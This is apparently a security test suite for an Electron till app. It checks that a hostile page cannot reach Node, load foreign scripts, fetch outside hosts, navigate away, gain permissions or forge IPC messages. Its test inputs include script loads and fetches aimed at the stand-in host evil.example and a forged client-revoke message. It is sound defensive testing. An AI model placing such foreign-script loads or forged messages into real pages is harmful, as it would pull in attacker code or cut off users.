import { describe, expect, test } from 'vitest'
import { launch, patience } from './driver.ts'
import { type ElectronMain, isStandIn } from './host.ts'
import { openShop } from './scene.ts'

/** As the page would ask for a client to be shut out. */
const revoke = JSON.stringify({ i: 'x', p: { u: '/clients/revoke', b: { json: { id: 'canary' } } } })

test('a page turned against us finds nothing of Node or Electron', async () => {
  const page = await (await launch()).page()
  const found = await page.evaluate(`({
    node: ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter((name) => name in window),
    own: Object.keys(window.tillAgent),
    frozen: Object.isFrozen(window.tillAgent),
  })`)
  expect(found).toEqual({ node: [], own: ['send', 'onMessage'], frozen: true })
})

test('a page turned against us runs no script of its own making and reaches no other place', async () => {
  const app = await launch()
  const page = await app.page()
  const { host } = new URL(page.url())
  const tried = await page.evaluate(`(async () => {
    const tried = {}
    const inline = document.createElement('script')
    inline.textContent = 'window.wasInline = true'
    document.body.append(inline)
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    document.body.append(foreign)
    const image = new Image()
    const loaded = new Promise((resolve) => { image.onload = () => resolve('loaded'); image.onerror = () => resolve('refused') })
    image.src = 'https://evil.example/pixel.png'
    setTimeout('window.wasEvaluated = true')
    tried.fetch = await fetch('https://evil.example/').then(() => 'reached', () => 'refused')
    tried.local = await fetch('http://127.0.0.1:${new URL(app.url).port}/healthz').then(() => 'reached', () => 'refused')
    tried.image = await loaded
    tried.popup = window.open('https://evil.example/') === null ? 'refused' : 'opened'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 300))
    tried.inline = window.wasInline ?? 'refused'
    tried.evaluated = window.wasEvaluated ?? 'refused'
    try { tried.frame = frame.contentDocument === null ? 'apart' : frame.contentDocument.body.innerText } catch { tried.frame = 'apart' }
    return tried
  })()`)
  expect(tried).toMatchObject({
    ...{ fetch: 'refused', local: 'refused', image: 'refused', inline: 'refused', evaluated: 'refused' },
  })
  await page.evaluate("setTimeout(() => { location.href = 'https://evil.example/' })")
  await page.evaluate("setTimeout(() => { location.href = 'app://elsewhere/' })")
  await page.evaluate('new Promise((resolve) => setTimeout(resolve, 500))')
  expect(new URL(page.url()).host).toBe(host)
  expect(await app.main(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
  expect(await app.opened()).toEqual([])
})

describe('every permission', () => {
  test('is refused to the page', async () => {
    const page = await (await launch()).page()
    const asked = await page.evaluate(`(async () => ({
      notifications: await Notification.requestPermission(),
      place: await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('known'), () => resolve('denied'))),
      camera: await (navigator.mediaDevices?.getUserMedia({ video: true }) ?? Promise.reject()).then(() => 'seen', () => 'denied'),
    }))()`)
    expect(asked).toEqual({ notifications: 'denied', place: 'denied', camera: 'denied' })
  })

  // Chromium asks them only inside Electron.
  test.runIf(isStandIn)('is refused by the handlers that Electron will ask', async () => {
    const app = await launch()
    const answers = await app.main(askHandlers)
    expect(answers).toEqual({
      refused: [false, false, false, false],
      granted: [true, true],
      check: false,
      device: false,
    })
  })
})

describe('the channel to the agent', () => {
  test('takes nothing that is no call, and serves on', async () => {
    const { app, checkout } = await openShop()
    const page = await app.page()
    await page.evaluate(`(() => {
      for (const junk of ['', '{', 'null', '[]', '{"i":1}', '{"i":"x","p":{"u":7}}', '{"i":"x","t":3}', '{"i":"x","p":{"u":"//"}}', 7, null, { i: 1 }, [1], 'x'.repeat(2_000_000)])
        window.tillAgent.send(junk)
    })()`)
    await page.reload()
    await page.getByRole('textbox', { name: 'Mobile number' }).waitFor()
    expect((await checkout.lookUp()).status).toBe(200)
  })

  test('hears our own page alone', async () => {
    const { app, checkout } = await openShop()
    for (const sender of ['foreign-page', 'frame', 'look-alike', 'other-window', 'no-frame'])
      await app.main(sayAs, { sender, message: revoke })
    await app.page()
    expect((await checkout.lookUp()).status).toBe(200)
    // And would have heard it.
    await app.main(sayAs, { sender: 'ours', message: revoke })
    await expect.poll(async () => (await checkout.lookUp()).status, patience).toBe(401)
  })

  test('is the only one there is', async () => {
    const { app } = await openShop()
    expect(await app.main(({ ipcMain }) => ipcMain.eventNames())).toEqual(['till-agent'])
  })
})

async function askHandlers({ session }: ElectronMain) {
  const { given } = session.defaultSession as never as { given: Record<string, (...args: unknown[]) => unknown> }
  const own = { requestingUrl: 'app://bundle/' }
  const foreign = { requestingUrl: 'https://evil.example/' }
  const copying = 'clipboard-sanitized-write'
  const request = (permission: string, details: object) =>
    new Promise((resolve) => {
      given.permissionRequest?.({}, permission, resolve, details)
    })
  const refused = ['media', 'openExternal', 'clipboard-read'].map((permission) => request(permission, own))
  return {
    refused: await Promise.all([...refused, request(copying, foreign)]),
    // The key of a program is copied at a click.
    granted: [await request(copying, own), given.permissionCheck?.({}, copying, 'app://bundle')],
    check: given.permissionCheck?.({}, 'media', 'app://bundle'),
    device: given.devicePermission?.({ deviceType: 'usb' }),
  }
}

/** A message as it would come from such a page. */
function sayAs({ ipcMain, BrowserWindow }: ElectronMain, { sender, message }: { sender: string; message: string }) {
  const contents = BrowserWindow.getAllWindows()[0]?.webContents
  const frames: Record<string, unknown> = {
    ours: { url: 'app://bundle/#/customer', parent: null },
    'foreign-page': { url: 'https://evil.example/', parent: null },
    'look-alike': { url: 'app://bundle.evil.example/', parent: null },
    frame: { url: 'app://bundle/', parent: {} },
    'no-frame': null,
  }
  const isOther = sender === 'other-window'
  const senderFrame = isOther ? frames.ours : frames[sender]
  ipcMain.emit('till-agent', { sender: isOther ? {} : contents, senderFrame } as never, message)
}
